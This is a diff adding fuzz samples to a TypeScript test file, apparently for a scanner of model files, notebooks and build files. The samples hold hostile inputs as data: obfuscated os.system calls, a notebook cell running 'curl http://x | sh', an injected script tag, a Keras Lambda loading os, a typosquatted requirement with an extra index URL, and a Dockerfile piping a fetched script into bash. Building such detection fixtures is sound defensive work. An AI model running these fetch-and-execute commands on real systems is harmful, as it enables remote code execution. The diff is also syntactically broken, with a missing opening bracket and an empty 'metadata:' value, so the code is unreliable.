@@ -80,4 +80,33 @@ export const fuzzSamples: readonly (readonly [name: string, bytes: Uint8Array])[
       '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","module":"os","config":{"function":["4wEAAAAAAAAAAAAAAA=="],"function_type":"lambda"}}]}}',
     ),
   ],
+    'python',
+    utf8(
+      '# coding: latin-1\nimport os as o\nclass A:\n  def f(self, x=1):\n    with open(f"a{x!r:>{2}}", "w") as g:\n      getattr(o, "sys" + "tem")("id")\n',
+    ),
+  ],
+  [
+    'torchscript',
+    utf8(
+      'class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    torch.save(x, "/x")\n    return ^Op(1)(x)\n',
+    ),
+  ],
+  [
+    'notebook',
+    utf8(
+      JSON.stringify({
+        cells: [
+          {
+            cell_type: 'code',
+            source: ['import os\n', '!curl http://x | sh\n', 'os.system("id")'],
+            outputs: [{ data: { 'text/html': ['<script>fetch(1)</script>'] } }],
+          },
+        ],
+        metadata: ,
+        nbformat: 4,
+      }),
+    ),
+  ],
+  ['requirements', utf8('torch==1.12.0\nnumppy>=1.0\n--extra-index-url https://x/simple\ngit+https://x/y.git\n')],
+  ['dockerfile', utf8('FROM python:3.11\nRUN curl https://x/y.sh | bash \\\n && pip install torch numpy\n')],
 ];
